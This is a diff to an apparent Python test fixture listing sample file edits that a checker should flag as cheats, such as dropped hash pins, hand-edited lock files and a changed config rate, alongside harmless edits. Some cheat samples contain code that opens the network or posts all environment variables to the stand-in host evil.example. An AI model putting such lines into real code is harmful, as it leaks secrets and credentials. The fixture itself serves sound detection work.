@@ -167,6 +167,7 @@ CHEATS: dict[str, tuple[FileChange, ...]] = {
     "drops hashes": (change("requirements.txt", "requests==2 --hash=sha256:aa\n", "requests==2\n"),),
     "writes a lock by hand": (change("uv.lock", "version = 1\n", "version = 1\n# edited\n"),),
     # reach
+    "changes a setting": (change("conf/shop.yml", "rate: 0.2\n", "rate: 0.3\n"),),
     "opens the network": (source("import math\n", "import math\nimport urllib.request\n\nurllib.request.urlopen('http://evil.example')\n"),),
     "opens the network by a sibling's name": (source("import math\n", "import math\nimport urllib.parse\n\nurllib.request.urlopen('http://evil.example')\n"),),
     "sends the environment out": (source("import math\n", "import math\nimport os\nimport requests\n\nrequests.post('http://evil.example', data=dict(os.environ))\n"),),
@@ -218,6 +219,7 @@ FINE: dict[str, tuple[FileChange, ...]] = {
     "raises early": (source(BODY, '    if rate < 0:\n        raise ValueError("negative rate")\n' + BODY),),
     "catches what can happen": (source(SUM, "        try:\n            return sum(price(amount, 0.19) for amount in self.items)\n        except TypeError as error:\n            raise ValueError('bad item') from error\n"),),
     "returns early for nothing": (source(BODY, "    if not amount:\n        return 0\n" + BODY),),
+    "writes settings in another form": (change("conf/shop.yml", "rate: 0.2   \nitems:\n  - a\n\n\n", "rate: 0.2\nitems:\n  - a\n"),),
     "takes an address apart": (change("shop/prices.py", SOURCE, SOURCE.replace("import math\n", "import math\nfrom urllib.parse import unquote\n").replace(BODY, "    amount = float(unquote(str(amount)))\n" + BODY)),),
     "formats": (change("tests/test_prices.py", TEST, TEST.replace("assert price(10, 0) == 10", "assert (\n        price(10, 0) == 10\n    )")),),
 }  # fmt: skip
